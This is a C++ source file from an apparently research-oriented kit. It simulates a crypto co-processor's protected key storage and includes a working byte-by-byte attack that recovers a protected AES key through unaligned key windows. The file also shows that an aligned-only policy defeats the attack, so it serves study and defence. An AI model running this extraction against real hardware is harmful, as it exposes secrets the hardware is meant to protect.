// Copyright (c) 2026 the ftpm-kit authors
// SPDX-License-Identifier: Apache-2.0

#include "ftpm/ccp.hpp"

#include <algorithm>

#include "ftpm/crypto.hpp"

namespace ftpm::ccp {

LsbState::LsbState(size_t num_slots, std::vector<bool> protected_slots)
    : mem_(num_slots * kSlotSize, 0), protected_(std::move(protected_slots)) {
  if (protected_.size() != num_slots) {
    throw Error(Errc::BadAddress, "protection flags must match slot count");
  }
}

LsbState LsbState::with_secret(const Block128& secret, size_t num_slots) {
  if (num_slots < 2) {
    throw Error(Errc::BadAddress, "LSB needs at least two slots");
  }
  std::vector<bool> prot(num_slots, false);
  prot[0] = true;
  LsbState state(num_slots, std::move(prot));
  std::copy(secret.begin(), secret.end(), state.mem_.begin());
  return state;
}

bool LsbState::is_protected(size_t slot) const {
  if (slot >= protected_.size()) {
    throw Error(Errc::BadAddress, "slot index out of range");
  }
  return protected_[slot];
}

void LsbState::write(size_t slot, const Block128& value) {
  if (is_protected(slot)) {
    throw Error(Errc::WriteProtected, "slot " + std::to_string(slot) + " is write-protected");
  }
  std::copy(value.begin(), value.end(), mem_.begin() + slot * kSlotSize);
}

Block128 LsbState::read(size_t slot) const {
  if (is_protected(slot)) {
    throw Error(Errc::ReadProtected, "slot " + std::to_string(slot) + " is read-protected");
  }
  Block128 out{};
  std::copy_n(mem_.begin() + slot * kSlotSize, kSlotSize, out.begin());
  return out;
}

Block128 Ccp::aes_encrypt(const AesJob& job) const {
  if (job.key_addr + kSlotSize > lsb_.mem_.size()) {
    throw Error(Errc::BadAddress, "key window out of range");
  }
  if (policy_ == AlignmentPolicy::AlignedOnly && job.key_addr % kSlotSize != 0) {
    throw Error(Errc::AlignmentViolation, "unaligned key address " + std::to_string(job.key_addr));
  }
  SymKey128 key{};
  std::copy_n(lsb_.mem_.begin() + job.key_addr, kSlotSize, key.begin());
  return crypto::aes128_encrypt_block(key, job.input);
}

namespace {

// Plaintexts used to disambiguate the (astronomically unlikely) case of two
// candidate keys mapping one input to the same ciphertext.
Block128 probe_input(size_t round) {
  Block128 in{};
  in.fill(static_cast<uint8_t>(0xA5 ^ round));
  in[0] = static_cast<uint8_t>(round);
  return in;
}

}  // namespace

ExtractionResult extract_protected_slot(const EncryptOracle& encrypt, const SlotWriter& write_slot,
                                        size_t writable_slot, size_t target_slot) {
  bool target_after = target_slot == writable_slot + 1;
  bool target_before = writable_slot == target_slot + 1;
  if (!target_after && !target_before) {
    throw Error(Errc::BadAddress, "writable slot must be adjacent to the target");
  }

  const size_t w0 = writable_slot * kSlotSize;
  Block128 filler{};
  for (size_t i = 0; i < kSlotSize; ++i) filler[i] = static_cast<uint8_t>(i);

  ExtractionResult res;
  Block128 recovered{};

  auto oracle = [&](size_t addr, const Block128& input) {
    ++res.op_count;
    try {
      return encrypt(AesJob{addr, input});
    } catch (const Error& e) {
      if (e.code() == Errc::AlignmentViolation) {
        throw Error(Errc::ExtractionImpossible,
                    "co-processor enforces aligned keys; window attack foiled");
      }
      throw;
    }
  };

  for (size_t p = 1; p <= kSlotSize; ++p) {
    // Window straddling the slot boundary with exactly one unknown byte.
    size_t window_addr;
    size_t unknown_index;  // index into the target slot
    auto candidate_key = [&](uint8_t guess) {
      Block128 key{};
      if (target_after) {
        // filler[p..15] || recovered[0..p-2] || guess
        for (size_t i = 0; i < kSlotSize - p; ++i) key[i] = filler[p + i];
        for (size_t i = 0; i + 1 < p; ++i) key[kSlotSize - p + i] = recovered[i];
        key[kSlotSize - 1] = guess;
      } else {
        // guess || recovered[17-p..15] || filler[0..15-p]
        key[0] = guess;
        for (size_t i = 0; i + 1 < p; ++i) key[1 + i] = recovered[kSlotSize - p + 1 + i];
        for (size_t i = 0; i < kSlotSize - p; ++i) key[p + i] = filler[i];
      }
      return key;
    };
    if (target_after) {
      window_addr = w0 + p;
      unknown_index = p - 1;
    } else {
      window_addr = w0 - p;
      unknown_index = kSlotSize - p;
    }

    size_t round = 0;
    std::vector<uint8_t> survivors;
    for (uint16_t c = 0; c < 256; ++c) survivors.push_back(static_cast<uint8_t>(c));
    while (survivors.size() != 1) {
      if (round >= 4 || survivors.empty()) {
        throw Error(Errc::ExtractionFailed, "no unique candidate for window " + std::to_string(p));
      }
      Block128 input = probe_input(round++);
      write_slot(filler);
      Block128 reference = oracle(window_addr, input);
      std::vector<uint8_t> next;
      for (uint8_t c : survivors) {
        write_slot(candidate_key(c));
        ++res.window_candidates[p - 1];
        if (oracle(w0, input) == reference) next.push_back(c);
      }
      survivors = std::move(next);
    }
    recovered[unknown_index] = survivors.front();
  }

  write_slot(filler);  // leave the writable slot in a known state
  res.recovered = recovered;
  return res;
}

}  // namespace ftpm::ccp
